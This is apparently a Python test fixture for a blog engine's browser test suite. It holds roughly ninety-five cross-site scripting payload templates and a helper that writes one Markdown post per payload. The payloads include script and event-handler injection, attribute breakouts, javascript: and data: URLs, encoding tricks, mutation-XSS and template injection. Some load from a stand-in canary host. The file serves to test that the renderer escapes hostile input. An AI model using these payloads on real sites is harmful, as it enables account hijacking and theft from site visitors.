"""XSS payloads for the browser suite (tests/test_browser_xss.py), and the
posts folder that carries them.

Every payload is a template with `{n}`, its number: what it runs is
`__xss(n)`, `alert(n)` or a request to CANARY/n, so the browser test can
tell which one ran. `xss_posts` writes one post per payload with the
payload in its title, tags, categories, author, excerpt, body (raw, as
inline code and as a code block) and permalink, between Japanese words
that searches find: every post has 攻撃文字列 and 検証, and one of GROUPS.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from pathlib import Path

import yaml

CANARY_HOST = "xss-canary.test"
CANARY = f"//{CANARY_HOST}"
GROUPS = ("東京", "大阪", "京都", "札幌", "福岡")  # each at most 20 posts: one widget answer
SHARED_WORDS = "攻撃文字列"


def _b64(js: str) -> str:
    return base64.b64encode(js.encode()).decode()


# (name, template); the name says what the payload tries
TEMPLATES: list[tuple[str, str]] = [
    # script elements
    ("script", "<script>__xss({n})</script>"),
    ("script-alert", "<script>alert({n})</script>"),
    ("script-src", "<SCRIPT SRC=" + CANARY + "/{n}.js></SCRIPT>"),
    ("script-nested", "<scr<script>ipt>__xss({n})</scr</script>ipt>"),
    ("script-confirm", "<script>confirm({n})</script>"),
    ("script-prompt", "<script>prompt({n})</script>"),
    ("script-console", "<script>console.log('xss-{n}')</script>"),
    ("script-nul", "<scr\x00ipt>__xss({n})</scr\x00ipt>"),
    ("script-fullwidth", "＜script＞__xss({n})＜/script＞"),  # NFKC folds it to <script>
    ("script-unicode-escapes", "\\u003cscript\\u003e__xss({n})\\u003c/script\\u003e"),
    ("script-url-encoded", "%3Cscript%3E__xss({n})%3C%2Fscript%3E"),
    ("script-pre-escaped", "&lt;script&gt;__xss({n})&lt;/script&gt;"),
    ("script-double-escaped", "&amp;lt;img src=x onerror=__xss({n})&amp;gt;"),
    # event handlers
    ("img-onerror", "<img src=x onerror=__xss({n})>"),
    ("img-onerror-alert", '<img src="x" onerror="alert({n})">'),
    ("img-mixed-case", "<IMG SRC=x OnErRoR=__xss({n})>"),
    ("img-unclosed", "<img src=x onerror=__xss({n}) "),
    ("img-entity-handler", "<img src=x onerror=__xss&#40;{n}&#41;>"),
    ("img-js-unicode", "<img src=x onerror=\\u005f_xss({n})>"),
    ("img-base64-eval", "<img src=x onerror=eval(atob('" + "{b64}" + "'))>"),
    ("img-rtl-mark", "<img\u202esrc=x onerror=__xss({n})>"),
    ("img-zero-width", "<img src=x one\u200brror=__xss({n}) onerror=__xss({n})>"),
    ("img-srcset", '<img srcset=",,,x" onerror=__xss({n})>'),
    ("img-canary", "<img src=" + CANARY + "/{n}.png>"),
    ("img-fullwidth", "＜img src=x onerror=__xss({n})＞"),
    ("svg-onload", "<svg onload=__xss({n})>"),
    ("svg-slash", "<svg/onload=__xss({n})>"),
    ("svg-script", "<svg><script>__xss({n})</script></svg>"),
    ("svg-animate", "<svg><animate onbegin=__xss({n}) attributeName=x dur=1s>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:__xss({n})"><text y=20>x</text></a></svg>'),
    ("svg-foreign-object", "<svg><foreignObject><img src=x onerror=__xss({n})></foreignObject></svg>"),
    ("body-onload", "<body onload=__xss({n})>"),
    ("details-ontoggle", "<details open ontoggle=__xss({n})>"),
    ("input-autofocus", "<input autofocus onfocus=__xss({n})>"),
    ("audio-onerror", "<audio src=x onerror=__xss({n})>"),
    ("video-source", "<video><source onerror=__xss({n})></video>"),
    ("marquee", "<marquee onstart=__xss({n})>"),
    ("unquoted-handler", "<a href=# onclick=__xss({n}) onmouseover=__xss({n})>"),
    # breaking out of attributes and raw-text elements
    ("dq-breakout", '"><script>__xss({n})</script>'),
    ("sq-breakout", "'><img src=x onerror=__xss({n})>"),
    ("dq-handler", '" autofocus onfocus="__xss({n})" x="'),
    ("sq-handler", "' autofocus onfocus='__xss({n})' x='"),
    ("dq-no-spaces", '"onfocus="__xss({n})"autofocus="'),
    ("backtick", "`onerror=__xss({n})` <img src=x onerror=`__xss({n})`>"),
    ("title-breakout", "</title><script>__xss({n})</script>"),
    ("textarea-breakout", "</textarea><img src=x onerror=__xss({n})>"),
    ("style-breakout", "</style><img src=x onerror=__xss({n})>"),
    ("comment", '<!--<img src="--><img src=x onerror=__xss({n})//">'),
    ("comment-open", "<!-- __xss({n})"),
    ("cdata", "<![CDATA[<script>__xss({n})</script>]]>"),
    ("noscript", '<noscript><p title="</noscript><img src=x onerror=__xss({n})>">'),
    # frames and namespaces
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.__xss({n})</script>"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:parent.__xss({n})"></iframe>'),
    ("iframe-canary", "<iframe src=" + CANARY + "/{n}></iframe>"),
    ("math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>"),
    ("svg-style-mxss", "<svg><style><img src=x onerror=__xss({n})></style></svg>"),
    ("math-href", '<math href="javascript:__xss({n})">数式</math>'),
    ("object-data", '<object data="data:text/html,<script>parent.__xss({n})</script>"></object>'),
    ("embed", '<embed src="javascript:__xss({n})">'),
    # URLs
    ("a-javascript", '<a href="javascript:__xss({n})">リンク</a>'),
    ("a-mixed-case", '<a href="JaVaScRiPt:__xss({n})">リンク</a>'),
    ("a-tab", '<a href="java\tscript:__xss({n})">リンク</a>'),
    ("a-newline-entity", '<a href="java&#x0A;script:__xss({n})">リンク</a>'),
    ("a-decimal-entity", '<a href="&#106;avascript:__xss({n})">リンク</a>'),
    ("a-hex-entities", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__xss({n})">x</a>'),
    ("a-colon-entity", "<a href=javascript&colon;__xss({n})>リンク</a>"),
    ("a-leading-space", '<a href=" \x01javascript:__xss({n})">リンク</a>'),
    ("a-data", '<a href="data:text/html;base64,' + "{b64}" + '">リンク</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox({n})">リンク</a>'),
    ("md-link", "[クリック{n}](javascript:__xss({n}))"),
    ("md-link-upper", "[x](JAVASCRIPT:__xss({n}))"),
    ("md-autolink", "<javascript:__xss({n})>"),
    ("md-image", '![画像{n}](x" onerror="__xss({n}))'),
    ("md-reference", "[参照{n}]\n\n[参照{n}]: javascript:__xss({n})"),
    ("bare-javascript", "javascript:__xss({n})"),
    ("bare-tab-javascript", "JaVa\tScRiPt:__xss({n})"),
    ("bare-newline-javascript", "java\nscript:__xss({n})"),
    ("bare-data", "data:text/html,<script>__xss({n})</script>"),
    ("bare-vbscript", "vbscript:msgbox({n})"),
    ("protocol-relative", CANARY + "/{n}"),
    ("backslash-host", "/\\" + CANARY_HOST + "/{n}"),
    ("tab-host", "/\t/" + CANARY_HOST + "/{n}"),
    # page-wide elements
    ("base-href", '<base href="' + CANARY + '/{n}/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=' + CANARY + '/{n}">'),
    ("style-import", "<style>@import '" + CANARY + "/{n}.css';</style>"),
    ("link-stylesheet", "<link rel=stylesheet href=" + CANARY + "/{n}.css>"),
    ("style-attribute", '<div style="background:url(' + CANARY + '/{n}.png)">背景</div>'),
    ("form-action", '<form action="javascript:__xss({n})"><button>送信</button></form>'),
    ("formaction", '<button formaction="javascript:__xss({n})">送信</button>'),
    # template injection (the server must never evaluate post text)
    ("jinja", "{{{{7*7}}}} {{{{ config }}}} テンプレート{n}"),
    ("js-template", "${{__xss({n})}} `${{7*7}}`"),
    ("angular", "{{{{constructor.constructor('__xss({n})')()}}}}"),
    ("erb", "<%= 7*7 %> #{{__xss({n})}}"),
    ("liquid", "{{% raw %}}<script>__xss({n})</script>{{% endraw %}}"),
    # raw HTML blocks in Markdown
    ("html-block", "<div>\n<script>__xss({n})</script>\n<img src=x onerror=__xss({n})>\n</div>"),
    ("html-table", "<table><tr><td onmouseover=__xss({n})>表</td></tr></table>"),
]


# Harmless as raw HTML in a page: dangerous only if the server decoded,
# normalised or rendered them (entities, NFKC, Markdown, templates).
TEXT_ONLY = frozenset({
    "script-fullwidth", "script-unicode-escapes", "script-url-encoded", "script-pre-escaped",
    "script-double-escaped", "img-fullwidth", "comment-open", "md-link", "md-link-upper",
    "md-reference", "jinja", "js-template", "angular", "erb", "liquid",
})


@dataclass(frozen=True)
class Payload:
    n: int  # its number: what it runs is __xss(n), alert(n), ...
    name: str
    text: str

    @property
    def slug(self) -> str:
        return f"xss-{self.n:03d}"

    @property
    def marker(self) -> str:
        """A label in Japanese that only this payload's post carries."""
        return f"危険記事{self.n}"

    @property
    def group(self) -> str:
        return GROUPS[(self.n - 1) % len(GROUPS)]


def payloads() -> list[Payload]:
    out = []
    for i, (name, template) in enumerate(TEMPLATES, start=1):
        text = template.replace("{b64}", _b64(f"__xss({i})"))
        out.append(Payload(i, name, text.format(n=i)))
    return out


PAYLOADS = payloads()


def passage(p: Payload) -> str:
    """A paragraph with the payload as code, twice in its post: a repeated passage."""
    code = p.text.replace("`", "")
    return f"{p.marker}の再現手順。`{code}`。{p.name}という報告。`{code}`"


def post_text(p: Payload) -> str:
    """The Markdown file of payload `p`'s post."""
    meta = {
        "title": f"{p.marker} {p.text} の{SHARED_WORDS}",
        "date": f"2025-03-{1 + p.n % 28:02d} 10:{p.n % 60:02d}:00 +0900",
        "tags": [p.text, "危険タグ"],
        "categories": [p.text, "検証"],
        "author": p.text,
        "excerpt": f"抜粋{p.n}：{p.text} の{SHARED_WORDS}",
        "permalink": p.text,
    }
    code = p.text.replace("`", "")
    repeated = passage(p)
    front = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False, width=1 << 20)
    body = (
        f"{p.group}で見つかった{SHARED_WORDS}を検証する記事です。{p.marker}。\n\n"
        f"{p.text}\n\n"
        f"コードとして `{code}` とも書きました。\n\n"
        f"```html\n{p.text}\n```\n\n"
        f"段落の途中に {p.text} を入れた{SHARED_WORDS}の例です。危険な文字列は表示だけされるべきです。\n\n"
        f"{repeated}\n\n{repeated}\n"
    )
    return f"---\n{front}---\n\n{body}"


def xss_posts(folder: Path) -> list[Payload]:
    """One post per payload in `folder` (made if needed)."""
    folder.mkdir(parents=True, exist_ok=True)
    for p in PAYLOADS:
        (folder / f"2025-03-01-{p.slug}.md").write_text(post_text(p), encoding="utf-8")
    return PAYLOADS
